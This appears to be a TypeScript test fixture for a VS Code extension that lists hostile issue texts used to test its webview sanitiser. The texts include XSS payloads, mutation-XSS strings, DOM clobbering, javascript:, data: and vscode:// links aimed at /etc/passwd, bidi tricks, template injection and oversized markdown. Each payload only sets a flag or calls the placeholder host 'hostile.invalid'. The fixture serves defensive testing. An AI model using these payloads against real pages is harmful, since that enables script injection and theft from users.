/**
 * Texts that a stranger may put into an issue to act in the page that shows it. Each that is made to run something sets
 * `hostileRan` on a window when it does; each that is made to ask for something asks `hostile.invalid`.
 */

export interface HostileText {
  readonly name: string;
  readonly text: string;
}

const run = 'globalThis.hostileRan=1';
const there = 'https://hostile.invalid';

const named = (texts: Readonly<Record<string, string>>): readonly HostileText[] =>
  Object.entries(texts).map(([name, text]) => ({ name, text }));

const markup = named({
  script: `<script>${run}</script>`,
  'script with a source': `<script src="${there}/x.js"></script>`,
  'picture that fails': `<img src="x" onerror="${run}">`,
  'picture from elsewhere': `<img src="${there}/pixel.gif" srcset="${there}/2.gif 2x" alt="a cat">`,
  'drawing that loads': `<svg onload="${run}"><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
  'drawing with a foreign part': `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
  'drawing that uses another': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${run}'/></svg>#x"/></svg>`,
  frame: `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>top.${run}</script>"></iframe>`,
  'object and embed': `<object data="${there}/x.swf"></object><embed src="javascript:${run}">`,
  style: `<style>@import url(${there}/x.css); body{display:none!important} *{background:url(${there}/y)}</style>`,
  'style attribute': `<p style="position:fixed;inset:0;z-index:99999;background:url(${there}/z)">over all</p>`,
  'class and id': `<p id="root" class="row active issue-card" data-key="k" data-target="t" data-address="command:x">me</p>`,
  'base address': `<base href="${there}/"><a href="next">next</a>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${there}"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  link: `<link rel="stylesheet" href="${there}/l.css"><link rel="preload" as="image" href="${there}/l.png">`,
  form: `<form action="${there}"><input name="password" autofocus onfocus="${run}"><button formaction="javascript:${run}">Sign In</button></form>`,
  'focus at once': `<a tabindex=1 autofocus onfocus="${run}">x</a><select autofocus onfocus="${run}"><textarea autofocus onfocus="${run}">`,
  'details that toggle': `<details open ontoggle="${run}"><summary>open</summary>${run}</details>`,
  media: `<video src="${there}/v.mp4" autoplay onerror="${run}"><source onerror="${run}"></video><audio src="${there}/a.mp3" autoplay>`,
  marquee: `<marquee onstart="${run}">moving</marquee>`,
  template: `<template><script>${run}</script></template><div><template shadowrootmode="open"><script>${run}</script></template></div>`,
  'custom element': `<vscode-button onclick="${run}" appearance="primary">Sync</vscode-button><x-y is="x" onclick="${run}">`,
  dialog: `<dialog open><form method=dialog><button>OK</button></form></dialog><div popover id=p>pop</div>`,
});

const mutations = named({
  'mutation by noscript': `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  'mutation by math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'mutation by a form in a form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  'mutation by svg style': `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  'mutation by title': `<svg><title><a id="</title><img src=x onerror=${run}>"></title></svg>`,
  'mutation by textarea': `<textarea><p title="</textarea><img src=x onerror=${run}>"></textarea>`,
  'mutation by select': `<select><template><style><!--</select><svg><a title="--><img src=x onerror=${run}>">`,
  'mutation by comment': `<!--><img src=x onerror=${run}>--><!--!><img src=x onerror=${run}>`,
  'clobbering of names': `<form name="body"><input name="attributes"><input name="parentNode"></form><img name="querySelector"><a id="contextScoutReact">`,
  'namespace confusion': `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
});

const addresses = named({
  'javascript link': `[click](javascript:${run}) <a href="javascript:${run}">me</a> <javascript:${run}>`,
  'javascript link in disguise': `[a](JaVaScRiPt:${run}) [b](java&#10;script:${run}) [c](&#106;avascript:${run}) [d](\u0001javascript:${run})`,
  'command link': '[run](command:workbench.action.quit) <a href="command:contextScout.clearCache">clear</a>',
  'editor link':
    '[open](vscode://file/etc/passwd) [open](vscode-insiders://x) [f](file:///etc/passwd) [r](vscode-resource:/x)',
  'data link': `[page](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+) <a href="data:text/html,<script>${run}</script>">d</a>`,
  'blob link': '[blob](blob:https://hostile.invalid/1) [fs](filesystem:x) [about](about:blank) [view](view-source:x)',
  'link without a scheme': `[slashes](//hostile.invalid/x) [back](\\\\hostile.invalid\\x) [query](?x=1) [up](../../x)`,
  'link with a break out of its attribute': `[x](${there}/"onmouseover="${run}) [y](<${there}/' onclick='${run}> "t' onclick='${run}")`,
  'picture as markdown': `![x](${there}/i.png "t") ![" onerror="${run}](x) [![in a link](${there}/j.png)](javascript:${run})`,
  'picture as data': `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  'link that says another': `[https://example.com/login](${there}/login)`,
  'reference link': `[a][b] [b]\n\n[b]: javascript:${run} "title"\n[__proto__]: ${there}\n[constructor][]`,
  'reference to itself': '![[[#1]](#1)](#1) #1 ##2 #99999999999999999999 __proto__ constructor #__proto__',
});

const characters = named({
  'turned direction': 'invoice\u202efdp.exe \u2066isolated\u2069 \u202dforced\u202c',
  'direction that is not closed': '\u202e\u2067\u202b everything after this is turned',
  'null bytes and controls': 'a\u0000b\u0007c\u001b[31mred\u009b\u007f',
  'line and paragraph ends': 'one\u2028two\u2029three\r\nfour\u0085five',
  'unseen characters': 'a\u200b\u200c\u200d\u2060\ufeffb\u00ad\u{e0041}\u{e0042}',
  'halves of characters': 'x\ud83dy\udc00z',
  'stacked marks': `z${'\u0335\u0321\u0352'.repeat(200)}a${'\u0300'.repeat(900)}lgo`,
  'emoji without end': '👩‍👩‍👧‍👦'.repeat(300),
  'right to left': 'עברית <b>ו</b> العربية 12 #34 (a) [b]',
});

const shapes = named({
  'end of the script': `</script><script>${run}</script><!--<script>`,
  'end of the style': `</style><script>${run}</script>`,
  'end of JSON': `"}]}\\u003c/script>\\"'</ScRiPt ><img src=x onerror=${run}>`,
  'template injection': `\${${run}} {{constructor.constructor('${run}')()}} #{${run}} <%= ${run} %> {0} {1} $& $1 $\``,
  prototype: '__proto__',
  constructor: 'constructor',
  'to string': 'toString',
  'title of 100,000 letters': 'x'.repeat(100_000),
  'word of a megabyte': 'w'.repeat(1_048_576),
  'quotes in quotes': '>'.repeat(5_000) + ' deep',
  'lists in lists': `${'- '.repeat(2_000)}deep`,
  'numbers in numbers': `${'1. '.repeat(2_000)}deep`,
  'emphasis without end': '**a*b '.repeat(3_000),
  'underlines without end': '_a__'.repeat(4_000),
  'brackets without end': `${'['.repeat(5_000)}${']('.repeat(5_000)}`,
  'pictures without end': '![['.repeat(4_000),
  'ticks without end': '`'.repeat(999) + ' ' + '`'.repeat(998),
  'tags without end': '<b>'.repeat(3_000) + 'bold',
  'table without end': `|${'a|'.repeat(900)}\n|${'-|'.repeat(900)}\n|${'b|'.repeat(900)}`,
  'code without end': '```\n'.repeat(999),
  'blanks without end': `${' '.repeat(20_000)}x${'\t'.repeat(5_000)}y`,
  'mail without end': 'a@'.repeat(4_000),
  'reference names': Array.from({ length: 500 }, (_, at) => `[a${at}]: <x> "`).join('\n'),
});

/** By what they try. Several come from the lists of DOMPurify and of OWASP. */
export const hostileTexts: readonly HostileText[] = [...markup, ...mutations, ...addresses, ...characters, ...shapes];
